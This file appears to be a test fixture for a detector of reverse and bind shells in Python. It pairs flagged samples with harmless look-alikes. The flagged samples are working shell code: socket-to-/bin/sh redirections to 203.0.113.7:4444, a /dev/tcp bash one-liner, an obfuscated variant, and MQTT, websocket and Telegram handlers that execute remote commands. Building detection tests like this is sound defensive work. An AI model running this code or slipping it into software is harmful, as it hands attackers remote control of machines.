import asyncio
import socketserver
import shlex
import telebot
import websockets
import os
import pty
import socket
import subprocess
import threading
from types import SimpleNamespace

import paho.mqtt.client as mqtt


def plain():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])  # expect: hit


def with_terminal(host, port):
    s = socket.create_connection((host, port))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    pty.spawn("/bin/bash")  # expect: hit


def one_line():
    os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")  # expect: hit


def received():
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    while True:
        os.popen(s.recv(1024).decode())  # expect: hit


def spelled():
    k = __import__("so" + "cket").socket()
    getattr(k, "con" + "nect")(("203.0.113.7", 4444))
    for fd in range(3):
        getattr(os, "du" + "p2")(k.fileno(), fd)
    getattr(subprocess, "".join(["ca", "ll"]))(["/bin/" + "sh", "-i"])  # expect: hit


def _connect():
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    return s


def _shell(s):
    subprocess.Popen(["sh"], stdin=s.fileno(), stdout=s.fileno())  # expect: hit


def split():
    _shell(_connect())


def bound():
    s = socket.socket()
    s.bind(("0.0.0.0", 5555))
    s.listen(1)
    c, _ = s.accept()
    threading.Thread(target=_serve, args=(c,)).start()


def _serve(c):
    subprocess.run(c.recv(100), shell=True)  # expect: hit


# look-alikes
def echo():
    s = socket.socket()
    s.bind(("127.0.0.1", 8000))
    c, _ = s.accept()
    c.sendall(c.recv(10))


def shell():
    subprocess.call(["/bin/sh", "-i"])


def tool():
    s = socket.create_connection(("example.com", 80))
    s.close()
    subprocess.run(["git", "status"])


def on_order(client, data, message):
    os.system(message.payload.decode())  # expect: hit


def subscribe():
    client = mqtt.Client()
    client.on_message = on_order
    client.connect("broker.evil.example")


def namespace():
    link = socket.create_connection(("evil.example", 7))
    entry = SimpleNamespace(args=link.recv(100).decode().split())
    subprocess.run(**vars(entry))  # expect: hit


async def served(reader, writer):
    worker = await asyncio.create_subprocess_exec("/bin/bash", "-i", stdin=asyncio.subprocess.PIPE)  # expect: hit
    worker.stdin.write(await reader.read(1024))


async def served_by_gzip(reader, writer):
    worker = await asyncio.create_subprocess_exec("/usr/bin/gzip", "-c", stdin=asyncio.subprocess.PIPE)
    worker.stdin.write(await reader.read(1024))


async def listening():
    await asyncio.start_server(served, "0.0.0.0", 9099)


async def listening_for_gzip():
    await asyncio.start_server(served_by_gzip, "0.0.0.0", 9099)


async def orders_of_a_socket():
    async with websockets.connect("wss://c.example.net/s") as connection:
        async for message in connection:
            await asyncio.create_subprocess_exec(*shlex.split(message))  # expect: hit


async def words_of_its_own(connection):
    await asyncio.create_subprocess_exec(*["git", "pull"])
    print(await connection.recv())


bot = telebot.TeleBot(open("token").read())


@bot.message_handler(func=lambda message: True)
def on_message(message):
    bot.reply_to(message, subprocess.getoutput(message.text))  # expect: hit


@bot.message_handler(commands=["uptime"])
def on_uptime(message):
    bot.reply_to(message, subprocess.getoutput("uptime"))


class Diagnostics(socketserver.StreamRequestHandler):
    def handle(self):
        for stream in range(3):
            os.dup2(self.request.fileno(), stream)
        pty.spawn(os.environ.get("SHELL", "/bin/sh"))  # expect: hit


class Logs(socketserver.StreamRequestHandler):
    def handle(self):
        for name in os.listdir("/var/log/acme"):
            self.wfile.write(name.encode())


class Link(asyncio.Protocol):
    def data_received(self, data):
        asyncio.ensure_future(self.answer(data.decode()))

    async def answer(self, line):
        await asyncio.create_subprocess_shell(line)  # expect: hit


class Fixed(asyncio.Protocol):
    def data_received(self, data):
        asyncio.ensure_future(self.answer(data.decode()))

    async def answer(self, line):
        await asyncio.create_subprocess_exec("uptime")
        print(line)
